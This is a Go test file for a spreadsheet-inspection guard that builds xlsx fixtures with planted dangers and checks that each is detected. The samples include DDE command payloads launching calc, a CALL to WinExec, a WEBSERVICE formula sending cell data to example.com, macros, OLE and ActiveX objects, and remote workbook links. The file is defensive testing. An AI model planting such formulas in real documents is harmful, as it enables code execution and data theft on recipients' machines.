package guard

import (
	"strings"
	"testing"
)

func plantedInExcel(t testing.TB) []planted {
	in := func(cells string, more parts) []byte { return sheetParts(cells, more).pack(t) }
	formula := func(text string) []byte { return in(`<c r="A1"><f>`+text+`</f></c>`, nil) }
	typed := func(main string) []byte {
		return in("", parts{"[Content_Types].xml": types("xl/workbook.xml", main)})
	}
	external := func(inner string) string {
		return `<x:externalLink xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` + inner + `</x:externalLink>`
	}
	book := func(target string) []byte {
		return in("", parts{"xl/externalLinks/_rels/externalLink1.xml.rels": relations(relation("rId1", relType+"externalLinkPath", target))})
	}
	return []planted{
		{"macros", in("", parts{"xl/VbaProject.bin": compound("_VBA_PROJECT")}), []Danger{Macro}},
		{"xlsm", typed("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), []Danger{WrongType}},
		{"xlsb", typed("application/vnd.ms-excel.sheet.binary.macroEnabled.main"), []Danger{WrongType}},
		{"xlam", typed("application/vnd.ms-excel.addin.macroEnabled.main+xml"), []Danger{WrongType}},
		{"xltm", typed("application/vnd.ms-excel.template.macroEnabled.main+xml"), []Danger{WrongType}},
		{"presentation", typed("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"), []Danger{WrongType}},
		{"no type", typed("application/xml"), []Danger{WrongType}},
		{"macro sheet by type", in("", parts{"[Content_Types].xml": types("xl/workbook.xml", sheetMain, "xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"), "xl/macrosheets/sheet1.xml": "<a/>"}), []Danger{MacroSheet}},
		{"macro sheet by root", in("", parts{"xl/worksheets/sheet2.xml": `<q:macrosheet xmlns:q="http://schemas.microsoft.com/office/excel/2006/main"/>`}), []Danger{MacroSheet}},
		{"macro sheet by relationship", in("", parts{"xl/_rels/workbook.xml.rels": relations(relation("rId1", msRelType+"xlIntlMacrosheet", "a.xml"))}), []Danger{MacroSheet}},
		{"DDE link", in("", parts{"xl/externalLinks/externalLink1.xml": external(`<x:ddeLink ddeService='cmd' ddeTopic="/c calc"/>`)}), []Danger{DDE}},
		{"DDE formula", formula(`cmd|'/c calc'!A0`), []Danger{DDE}},
		{"DDE formula in an entity", formula(`cmd&#124;'/c calc'!A0`), []Danger{DDE}},
		{"DDE formula in CDATA", formula(`<![CDATA[cmd|'/c calc'!A0]]>`), []Danger{DDE}},
		{"DDE function", formula(`1+dde ("cmd","/c calc","a")`), []Danger{DDE}},
		{"DDE name", in("", parts{"xl/workbook.xml": `<workbook` + sheetSpace + `><definedNames><definedName name="a">cmd|'/c calc'!A0</definedName></definedNames></workbook>`}), []Danger{DDE}},
		{"web service", formula(`_xlfn.WEBSERVICE("http://example.com/"&amp;A1)`), []Danger{Formula}},
		{"real-time data", formula(`RTD("prog",,"a")`), []Danger{Formula}},
		{"a call of a library", formula(`CALL("kernel32","WinExec","JCJ","calc",0)`), []Danger{Formula}},
		{"OLE link", in("", parts{"xl/externalLinks/externalLink1.xml": external(`<x:oleLink progId="Word.Document.12"/>`)}), []Danger{OLE}},
		{"OLE object", in("", parts{"xl/worksheets/sheet2.xml": `<worksheet` + sheetSpace + `><oleObjects><oleObject progId="Package" r:id="rId1"/></oleObjects></worksheet>`}), []Danger{OLE}},
		{"ActiveX", in("", parts{"xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", relType+"control", "../activeX/activeX1.xml"))}), []Danger{ActiveX}},
		{"connections", in("", parts{"xl/connections.xml": `<connections` + sheetSpace + `><connection id="1" name="库"><dbPr connection="DSN=x"/></connection></connections>`}), []Danger{Connection}},
		{"web query", in("", parts{"xl/connections.xml": `<connections` + sheetSpace + `><connection id="1" name="网"><webPr url="http://example.com/"/></connection></connections>`}), []Danger{Connection, Connection}},
		{"query table", in("", parts{"xl/queryTables/queryTable1.xml": `<queryTable` + sheetSpace + `/>`}), []Danger{Connection}},
		{"Power Query", in("", parts{"customXml/item1.xml": wide(`<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAA</DataMashup>`)}), []Danger{Connection}},
		{"data model", in("", parts{"[Content_Types].xml": strings.Replace(types("xl/workbook.xml", sheetMain), "<Override", `<Default Extension="data" ContentType="application/vnd.openxmlformats-officedocument.model+data"/><Override`, 1), "xl/model/item.data": "x"}), []Danger{Connection}},
		{"published", in("", parts{"xl/worksheets/sheet2.xml": `<worksheet` + sheetSpace + `><webPublishItems><webPublishItem id="1"/></webPublishItems></worksheet>`}), []Danger{Connection}},
		{"workbook on a server", book(`>file://///server/a.xlsx`), []Danger{BookLink}},
		{"workbook by UNC", book(`>\\server\a.xlsx`), []Danger{BookLink}},
		{"document type", in("", parts{"xl/styles.xml": `<?xml version="1.0"?><!DOCTYPE a><styleSheet` + sheetSpace + `/>`}), []Danger{Doctype}},
		{"background on a server", in("", parts{"xl/worksheets/_rels/sheet1.xml.rels": relations(relation("rId1", relType+"image", `>//server/a.png`))}), []Danger{Image}},
	}
}

// A sheet is told by what stands on its tab, and a formula by its cell, whatever the parts are called.
func TestSheetsAreToldByTheirTabs(t *testing.T) {
	file := sheetParts("", parts{
		"xl/workbook.xml":            `<workbook` + sheetSpace + `><sheets><sheet name="说明" sheetId="1" r:id="rId1"/><sheet name="议题建议" sheetId="7" r:id="rId9"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": relations(relation("rId1", relType+"worksheet", "worksheets/sheet1.xml"), relation("rId9", relType+"worksheet", "worksheets/sheet4.xml")),
		"xl/worksheets/sheet4.xml": `<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData><x:row r="7"><x:c r="A7"><x:v>1</x:v></x:c>` +
			`<x:c s="3" r="H7"><x:f>RTD("prog",,"a")</x:f></x:c></x:row></x:sheetData></x:worksheet>`,
	}).pack(t)
	report, err := Inspect("表.xlsx", file, Limits{})
	if err == nil || !strings.HasPrefix(report.Faults[0].Message, "工作表“议题建议”H7的公式用了RTD") {
		t.Errorf("told is %v", err)
	}
}
